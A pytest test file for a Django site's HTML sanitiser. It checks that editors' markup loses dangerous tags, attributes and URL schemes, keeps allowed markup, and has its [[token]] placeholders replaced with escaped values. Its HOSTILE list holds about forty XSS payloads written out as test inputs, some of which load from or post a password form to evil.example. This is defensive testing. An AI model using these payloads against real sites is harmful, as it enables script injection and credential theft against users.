"""Editors' HTML on its way out: nothing dangerous leaves, what is allowed stays, tokens give way to their values."""

import re

import html5lib
import pytest
from django.utils.safestring import SafeString
from django.utils.translation import override

from portal.core.text import sanitiser

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    '<p onclick="alert(1)">a</p>',
    "<p onmouseover=alert(1)//>a</p>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href=" \tjavascript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '<a href="vbscript:alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>a</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>p { background: url(javascript:alert(1)) }</style>",
    '<p style="background: url(//evil.example)">a</p>',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<form action="//evil.example"><input name="password"><button>OK</button></form>',
    '<base href="//evil.example"><link rel="stylesheet" href="//evil.example">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!-- <script>alert(1)</script> --><!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p title="a"onclick="alert(1)">a</p>',
    '<time datetime="2025" onclick="alert(1)">a</time>',
    '<td background="javascript:alert(1)">a</td>',
    '<div class="x" data-portal-map="y">a</div>',
    '<a href="https://inserm.fr" target="_blank" ping="//evil.example">a</a>',
    "<a href='//evil.example' onclick='alert(1)'",
    "<<script>alert(1)//<</script>",
    "[[publisher.name<script>alert(1)</script>]]",
    '<a href="[[url:javascript:alert(1)]]">a</a>',
    '<a href="[[url:privacy]]" onclick="[[publisher.name]]">a</a>',
]
ALLOWED = [
    "<p>un <em>deux</em> <strong>trois</strong> H<sub>2</sub>O, 1<sup>er</sup><br>fin</p>",
    '<h2 id="cadre">a</h2><h3>b</h3><h4>c</h4><hr>',
    "<ul><li>a</li></ul><ol><li>b</li></ol><dl><dt>c</dt><dd>d</dd></dl>",
    '<blockquote><p>a <cite lang="en">b</cite> <dfn>c</dfn></p></blockquote>',
    '<p><abbr title="Agence nationale de recherches">ANRS</abbr> <span lang="en">Joint Lab</span></p>',
    '<p><a href="https://www.inserm.fr/?a=1&amp;b=2" hreflang="en">a</a> <a href="/fr/contact/">b</a></p>',
    '<p><a href="mailto:contact@example.org">a</a> <a href="http://example.org/">b</a> <a href="#cadre">c</a></p>',
    '<p><time datetime="2025-10-01">octobre 2025</time></p>',
    '<table><caption>a</caption><tbody><tr><th scope="row" colspan="2">b</th><td rowspan="2">c</td></tr></tbody></table>',
    "<table><thead><tr><th>a</th></tr></thead></table>",
    "<p>R&amp;D : 1 &lt; 2</p>",
]


def elements_of(markup):
    """Every element as a browser sees it, whatever the form of the markup."""
    tree = html5lib.parseFragment(markup, namespaceHTMLElements=False)
    return [element for element in tree.iter() if element is not tree]


def scheme_of(address):
    """The scheme as a browser reads it: blanks and control characters do not count."""
    found = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", address.lower()))
    return found.group(1) if found else ""


@pytest.fixture
def publisher(settings):
    """The publisher's values, all unset."""
    settings.PUBLISHER = {name: {"fr": "", "en": ""} for name in settings.PUBLISHER}
    return settings.PUBLISHER


# --- sanitising ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("markup", HOSTILE)
@pytest.mark.parametrize("output", [sanitiser.clean, sanitiser.render])
def test_nothing_dangerous_is_left(publisher, markup, output):
    for element in elements_of(output(markup)):
        allowed = sanitiser.ATTRIBUTES["*"] | sanitiser.ATTRIBUTES.get(element.tag, set())
        assert element.tag in sanitiser.TAGS
        assert set(element.attrib) <= allowed
        assert scheme_of(element.get("href", "")) in {"", "https"}


def test_the_list_of_what_is_allowed_holds_nothing_that_runs_or_loads():
    assert (
        sanitiser.TAGS & {"script", "style", "svg", "math", "iframe", "object", "embed", "form", "img", "base"} == set()
    )
    attributes = set().union(*sanitiser.ATTRIBUTES.values())
    assert {name for name in attributes if name.startswith("on")} | attributes & {"style", "src", "srcdoc"} == set()
    assert sorted(sanitiser.SCHEMES) == ["http", "https", "mailto"]


@pytest.mark.parametrize(
    ("markup", "left"),
    [
        ("<script>alert(1)</script><p>a</p>", "<p>a</p>"),
        ("<style>p {}</style><p>a</p>", "<p>a</p>"),
        ('<p onclick="alert(1)" class="b">a</p>', "<p>a</p>"),
        ('<a href="javascript:alert(1)">a</a>', "<a>a</a>"),
        ("<div><h1>a</h1></div>", "a"),
        ("<p>a <em>b", "<p>a <em>b</em></p>"),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ],
)
def test_what_is_not_allowed_goes_and_its_words_stay_unless_they_are_code(markup, left):
    assert sanitiser.clean(markup) == left


@pytest.mark.parametrize("markup", ALLOWED)
@pytest.mark.parametrize("output", [sanitiser.clean, sanitiser.render])
def test_what_is_allowed_stays_as_it_is(markup, output):
    assert output(markup) == markup


def test_what_comes_out_is_safe_to_print():
    assert isinstance(sanitiser.render("<p>a</p>"), SafeString)


# --- values ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize(
    ("markup", "left"),
    [
        ("<p>a</p><p>b [[publisher.name]]</p>", "<p>a</p>"),
        ("<ul><li>a</li><li>[[publisher.name]]</li></ul>", "<ul><li>a</li></ul>"),
        ("<p>a</p><ul><li>[[publisher.name]]</li></ul>", "<p>a</p>"),
        ("<dl><dt>a</dt><dd>b</dd><dt>c</dt><dd>[[publisher.name]]</dd></dl>", "<dl><dt>a</dt><dd>b</dd></dl>"),
        ("<h2>a</h2><dl><dt>c</dt><dd>[[publisher.name]]</dd></dl><h2>d</h2><p>e</p>", "<h2>d</h2><p>e</p>"),
        ("<h2>a</h2><h3>b</h3><p>[[publisher.name]]</p><p>c</p>", "<h2>a</h2><h3>b</h3><p>c</p>"),
        ("<p>a</p><h2>b</h2><h3>c</h3><p>[[publisher.name]]</p>", "<p>a</p>"),
    ],
)
def test_a_line_that_names_a_value_which_is_not_set_is_left_out(publisher, language, markup, left):
    with override(language):
        assert sanitiser.render(markup) == left


def test_a_value_is_that_of_the_language_of_the_page(publisher):
    publisher["publisher.name"] = {"fr": "L'Institut", "en": ""}
    assert sanitiser.render("<p>[[publisher.name]]</p>") == "<p>L&#x27;Institut</p>"
    with override("en"):
        assert sanitiser.render("<p>[[publisher.name]]</p>") == ""


@pytest.mark.parametrize(
    ("value", "printed"),
    [
        ('<script>"R&D"</script>', "&lt;script&gt;&quot;R&amp;D&quot;&lt;/script&gt;"),
        ("contact@example.org", '<a href="mailto:contact@example.org">contact@example.org</a>'),
        ("Écrire à contact@example.org", "Écrire à contact@example.org"),
        (
            "https://example.org/?a=1&b=2",
            '<a href="https://example.org/?a=1&amp;b=2">https://example.org/?a=1&amp;b=2</a>',
        ),
        (
            'https://a.org/"onclick="b',
            '<a href="https://a.org/&quot;onclick=&quot;b">https://a.org/&quot;onclick=&quot;b</a>',
        ),
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("[[director.name]]", "[[director.name]]"),
    ],
)
def test_a_value_is_escaped_and_an_address_is_a_link(publisher, value, printed):
    publisher["publisher.name"] = {"fr": value, "en": value}
    assert sanitiser.render("<p>[[publisher.name]]</p>") == f"<p>{printed}</p>"


def test_each_token_of_a_text_is_replaced(publisher):
    publisher["host.name"] = {"fr": "Un", "en": "One"}
    publisher["host.phone"] = {"fr": "01", "en": "01"}
    assert sanitiser.render("<p>[[host.name]], [[host.phone]], [[host.name]]</p>") == "<p>Un, 01, Un</p>"


@pytest.mark.parametrize(
    ("status", "french", "english"),
    [
        ("none", "non conforme", "not compliant"),
        ("partial", "partiellement conforme", "partially compliant"),
        ("full", "totalement conforme", "fully compliant"),
    ],
)
def test_the_accessibility_status_is_in_the_words_of_the_law(settings, status, french, english):
    settings.ACCESSIBILITY_STATUS = status
    assert sanitiser.render("[[accessibility.status]]") == french
    with override("en"):
        assert sanitiser.render("[[accessibility.status]]") == english


def test_the_name_of_the_site_is_in_the_language_of_the_page():
    assert sanitiser.render("[[site.name]]") == "Coopération internationale, Inserm et ANRS MIE"
    with override("en"):
        assert sanitiser.render("[[site.name]]") == "International cooperation, Inserm and ANRS MIE"


# --- addresses -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "french", "english"),
    [
        ("privacy", "/fr/donnees-personnelles/", "/en/privacy/"),
        ("legal-notice", "/fr/mentions-legales/", "/en/legal-notice/"),
        ("home", "/fr/", "/en/"),
    ],
)
def test_a_page_s_token_is_its_address_in_the_language_of_the_page(name, french, english):
    assert sanitiser.render(f'<a href="[[url:{name}]]">a</a>') == f'<a href="{french}">a</a>'
    with override("en"):
        assert sanitiser.render(f'<a href="[[url:{name}]]">a</a>') == f'<a href="{english}">a</a>'


# --- tokens that are none --------------------------------------------------------------------------------------------


def test_an_unknown_value_is_one_that_is_not_set(publisher):
    assert sanitiser.render("<p>a</p><p>[[publisher.motto]]</p>") == "<p>a</p>"


def test_an_unknown_page_leads_nowhere():
    assert sanitiser.render('<a href="[[url:nowhere]]">a</a>') == '<a href="#">a</a>'


@pytest.mark.parametrize(
    "text", ["[[publisher]]", "[publisher.name]", "[[Publisher.Name]]", "[[publisher.name]", "[[ publisher.name ]]"]
)
def test_other_brackets_are_left_as_they_are(publisher, text):
    assert sanitiser.render(f"<p>{text}</p>") == f"<p>{text}</p>"


@pytest.mark.parametrize("value", ["", "contact@example.org", "https://example.org/", "L'Institut"])
@pytest.mark.parametrize(
    "markup",
    ['<a href="mailto:[[contact.email]]">a</a>', '<abbr title="[[contact.email]]">a</abbr>'],
)
def test_a_value_inside_an_attribute_does_not_break_the_element(publisher, markup, value):
    publisher["contact.email"] = {"fr": value, "en": value}
    printed = sanitiser.render(markup)
    assert [element.text for element in elements_of(printed)] == ["a"]
    assert "<em>" not in printed
